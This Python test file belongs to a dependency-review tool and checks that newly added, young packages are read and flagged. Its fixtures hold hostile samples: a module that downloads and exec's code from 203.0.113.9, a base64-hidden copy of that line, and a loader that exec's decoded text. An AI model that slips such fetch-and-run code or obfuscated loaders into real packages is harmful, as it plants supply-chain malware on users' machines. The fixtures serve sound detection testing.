"""Requirements that a release gained, over a registry in memory."""

from __future__ import annotations

import base64

from pratique.batch import read_all
from pratique.cache import Cache
from pratique.ecosystems import Target
from pratique.model import Budget
from pratique.pipeline import Options
from pratique.releases import Against, Desk, plan, read_release

CLEAN = {"acme/__init__.py": b"VERSION = 1\n"}
HARM = {
    "plain_things/__init__.py": b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/x').read())\n"
}


def _reviewed(registry, version):
    def files(works):
        return read_all(works, Options(audience="everything"), jobs=0, cache=Cache(None))

    desk = Desk(registry, files, Budget(), lambda _text: None)
    target = Target(kind="project", text="acme", name="acme", version=version)
    return next(one.review for one in read_release(desk, plan(registry, target), Against()))


def test_a_young_harmful_dependency_is_read_and_its_reasons_are_inherited(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
    registry.add("1.0", HARM, "2099-01-01T00:00:00Z", name="plain_things")

    found = _reviewed(registry, "1.1")

    (wanted,) = found.dependencies
    assert (wanted.name, wanted.version, wanted.marks) == ("plain-things", "1.0", ("new", "young", "rare", "unused"))
    assert wanted.level in {"look", "block"}
    assert found.verdict.level in {"look", "block"}
    (finding,) = (one for one in found.findings if one.rule == "depend-on-a-harmful-release")
    assert "downloads code" in finding.explanation.children[0].text
    assert finding.target == "plain-things"


def test_an_old_dependency_is_looked_up_and_not_read(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
    name = registry.add("1.0", HARM, "2019-01-01T00:00:00Z", name="plain_things")

    (wanted,) = _reviewed(registry, "1.1").dependencies

    assert (wanted.version, wanted.level, wanted.marks) == ("1.0", "", ("new", "unused"))
    assert name not in registry.fetched


def test_a_dependency_that_was_there_is_not_looked_into(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z", requires=("plain-things",))
    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things",))

    assert _reviewed(registry, "1.1").dependencies == ()


def test_a_dependency_that_the_index_does_not_have_is_absent(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things", "other @ https://files.invalid/o.whl"))

    found = _reviewed(registry, "1.1").dependencies

    assert [one.marks for one in found] == [("new", "absent", "unused"), ("new", "direct", "unused")]


def test_a_dependency_in_use_is_not_marked_unused(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    using = {"acme/__init__.py": b"import plain_things\n"}
    registry.add("1.1", using, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
    registry.add("1.0", {"plain_things/__init__.py": b"X = 1\n"}, "2099-01-01T00:00:00Z", name="plain_things")

    (wanted,) = _reviewed(registry, "1.1").dependencies

    assert wanted.marks == ("new", "young", "rare")
    assert wanted.modules == ("plain_things",)
    assert wanted.level == "clear"


LOADER = b"""import base64


def plain(text):
    exec(base64.b64decode(text))
"""
HIDDEN = base64.b64encode(b"import urllib.request; exec(urllib.request.urlopen('http://203.0.113.9/x').read())")


def _with_loader(registry, loader):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    using = {"acme/__init__.py": b"import plain_things\n\nplain_things.plain('" + HIDDEN + b"')\n"}
    registry.add("1.1", using, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
    registry.add("1.0", {"plain_things/__init__.py": loader}, "2099-01-01T00:00:00Z", name="plain_things")
    return _reviewed(registry, "1.1")


def test_a_blob_here_and_a_loader_there_are_one_way(registry):
    """Neither the text nor the loader is much alone."""
    found = _with_loader(registry, LOADER)

    (wanted,) = found.dependencies
    assert wanted.level not in {"look", "block"}
    ran = {(use.capability, use.target, use.triggers) for use in found.uses}
    assert ("network.http", "http://203.0.113.9/x", ("import",)) in ran
    assert any(one.where.segments[0].startswith("<installed: plain_things-1.0") for one in found.uses)
    assert "run-downloaded-code" in {one.rule for one in found.findings}
    assert found.verdict.level in {"look", "block"}


def test_what_is_never_called_in_a_dependency_does_not_count_here(registry):
    unused = b"def plain(text):\n    return text\n\n\ndef other(text):\n    import os\n    os.system(text)\n"

    found = _with_loader(registry, unused)

    assert not any(one.where.segments[0].startswith("<installed") for one in found.uses)
    assert found.verdict.level == "clear"


def test_the_modules_of_a_dependency_do_not_make_it_used(registry):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
    both = {"plain_things/__init__.py": b"import plain_things.other\n", "plain_things/other.py": b"X = 1\n"}
    registry.add("1.0", both, "2099-01-01T00:00:00Z", name="plain_things")

    (wanted,) = _reviewed(registry, "1.1").dependencies

    assert "unused" in wanted.marks
